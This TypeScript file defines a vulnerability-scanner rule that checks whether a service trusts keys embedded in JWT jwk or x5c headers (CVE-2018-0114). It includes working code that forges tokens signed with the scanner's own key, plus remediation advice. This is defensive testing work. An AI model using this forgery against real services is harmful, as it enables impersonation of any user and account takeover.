import { createPrivateKey, X509Certificate } from 'node:crypto';
import { encodeJwt } from '../../material/jwt.ts';
import { forged } from '../forgery.ts';
import { ownCertificate } from '../own-certificate.ts';
import { defineRule } from '../rule.ts';

export const jwtEmbeddedKeyTrusted = defineRule({
  id: 'jwt-embedded-key-trusted',
  title: 'JWT embedded key (jwk header) trusted',
  aliases: ['jwk header injection', 'x5c', 'self-signed JWT', 'CVE-2018-0114'],
  severity: 'critical',
  cwe: [347, 345],
  cvss: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N',
  description:
    'Anyone can sign tokens for any user with a key of their own. The service verifies the token with the key in the token’s own jwk or x5c header.',
  remediation:
    'Ignore the jwk, jku, x5c and x5u headers. Verify with keys that are configured on the server.',
  needs: ['identity'],
  ...forged((jwt) => {
    const { cert, key } = ownCertificate();
    const [privateKey, certificate] = [createPrivateKey(key), new X509Certificate(cert)];
    const kid = typeof jwt.header.kid === 'string' ? jwt.header.kid : 'mb';
    const jwk = { ...certificate.publicKey.export({ format: 'jwk' }), kid, alg: 'RS256', use: 'sig' };
    const signing = { kind: 'rsa', key: privateKey } as const;
    const { x5c: _chain, x5t: _print, ...rest } = jwt.header;
    const header = { ...rest, alg: 'RS256', kid };
    return [
      {
        token: encodeJwt({ ...header, jwk }, jwt.payload, signing),
        what: 'signed with the scanner’s key, embedded in the jwk header,',
      },
      {
        token: encodeJwt({ ...header, x5c: [certificate.raw.toString('base64')] }, jwt.payload, signing),
        what: 'signed with the scanner’s key, with its certificate in the x5c header,',
      },
    ];
  }),
});
